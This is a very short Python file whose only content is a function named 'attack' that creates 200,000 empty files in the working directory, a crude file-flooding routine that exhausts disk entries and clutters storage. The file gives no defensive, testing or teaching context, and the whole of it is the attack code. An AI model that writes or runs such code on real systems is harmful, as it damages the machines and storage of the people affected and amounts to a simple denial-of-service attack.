import os


def attack():
    for number in range(200_000):
        open(f"file-{number}", "w").close()
